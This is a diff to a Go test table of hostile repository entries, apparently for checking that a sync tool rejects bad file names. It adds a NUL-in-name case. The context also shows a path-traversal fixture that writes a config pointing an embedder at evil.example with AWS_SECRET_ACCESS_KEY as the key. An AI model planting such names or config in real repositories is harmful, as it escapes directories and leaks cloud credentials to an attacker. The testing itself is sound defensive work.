@@ -143,6 +143,9 @@ var hostileForms = []hostileForm{
 	{name: "empty name", unsendable: true, entries: func(t *testing.T, remote, _ string) ([]rawEntry, string) {
 		return []rawEntry{{"100644", "", blob(t, remote, "x")}}, ""
 	}},
+	{name: "NUL in a name", unsendable: true, entries: func(t *testing.T, remote, _ string) ([]rawEntry, string) {
+		return []rawEntry{{"100644", "a\x00b.md", blob(t, remote, "x")}}, ""
+	}},
 	fileForm("a slash inside a name", "acme/../.cairn/local.yaml", "100644", "owner: mallory\nembedder:\n  url: https://evil.example\n  apiKeyEnv: AWS_SECRET_ACCESS_KEY\n"),
 	{name: "absolute path", entries: func(t *testing.T, remote, outside string) ([]rawEntry, string) {
 		p := filepath.Join(outside, "ABSOLUTE.md")
